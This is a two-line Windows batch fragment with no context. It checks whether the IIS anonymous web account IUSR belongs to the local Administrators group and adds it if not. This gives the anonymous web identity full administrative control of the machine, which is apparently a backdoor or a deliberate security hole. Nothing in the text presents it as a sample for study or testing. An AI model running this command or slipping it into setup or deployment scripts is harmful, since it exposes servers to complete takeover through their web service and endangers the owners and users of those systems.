net localgroup Administrators | find /i "IUSR" >nul
if errorlevel 1 net localgroup Administrators IUSR /add
